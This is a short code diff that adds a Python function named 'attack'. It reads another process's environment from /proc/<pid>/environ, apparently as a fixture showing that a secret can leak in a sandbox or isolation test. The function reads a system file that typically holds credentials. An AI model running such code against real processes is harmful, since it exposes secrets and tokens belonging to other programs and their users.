@@ -1,0 +1,4 @@
+# Reads the environment of the program that started it.
+# proof: secret
+def attack(arg):
+    return open(f"/proc/{arg['reader']}/environ").read()
